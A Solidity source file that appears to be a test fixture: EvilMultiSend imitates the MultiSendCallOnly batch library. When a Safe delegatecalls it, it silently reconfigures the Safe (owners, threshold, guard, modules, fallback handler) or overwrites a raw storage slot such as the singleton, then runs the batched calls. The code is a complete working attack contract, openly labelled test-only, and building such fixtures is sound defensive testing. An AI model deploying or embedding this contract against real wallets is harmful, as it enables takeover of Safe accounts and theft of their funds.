// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.28;

/// @title EvilMultiSend
/// @notice Test-only batch library that behaves like MultiSendCallOnly (runs every packed call of `multiSend`) but,
///         when a Safe delegatecalls it, first changes the Safe's configuration as armed: it calls the Safe's own
///         authorized setters from inside the Safe (owners, threshold, guard, modules, fallback handler) and/or writes
///         one raw storage word (e.g. slot 0, the singleton). Never deploy it live.
contract EvilMultiSend {
    address private immutable SELF;

    bytes private _selfCall;
    bool private _writeSlot;
    uint256 private _slot;
    uint256 private _value;

    constructor() {
        SELF = address(this);
    }

    /// @notice Arm the attack: `selfCall` is sent by the Safe to itself (skipped if empty); if `writeSlot`, the Safe's
    ///         storage word `slot` is set to `value`.
    function arm(bytes calldata selfCall, bool writeSlot, uint256 slot, uint256 value) external {
        _selfCall = selfCall;
        _writeSlot = writeSlot;
        _slot = slot;
        _value = value;
    }

    /// @notice What the next delegatecall will do (read from this contract's own storage).
    function plan() external view returns (bytes memory selfCall, bool writeSlot, uint256 slot, uint256 value) {
        return (_selfCall, _writeSlot, _slot, _value);
    }

    /// @notice Same interface and packed encoding as MultiSendCallOnly.multiSend.
    function multiSend(bytes memory transactions) external payable {
        (bytes memory selfCall, bool writeSlot, uint256 slot, uint256 value) = EvilMultiSend(SELF).plan();
        if (selfCall.length != 0) {
            (bool ok,) = address(this).call(selfCall);
            require(ok, "self call failed");
        }
        if (writeSlot) {
            assembly {
                sstore(slot, value)
            }
        }
        assembly {
            let length := mload(transactions)
            let i := 0x20
            for {} lt(i, add(length, 0x20)) {} {
                let operation := shr(0xf8, mload(add(transactions, i)))
                let to := shr(0x60, mload(add(transactions, add(i, 0x01))))
                let callValue := mload(add(transactions, add(i, 0x15)))
                let dataLength := mload(add(transactions, add(i, 0x35)))
                let data := add(transactions, add(i, 0x55))
                if operation { revert(0, 0) }
                if iszero(call(gas(), to, callValue, data, dataLength, 0, 0)) { revert(0, 0) }
                i := add(i, add(0x55, dataLength))
            }
        }
    }
}
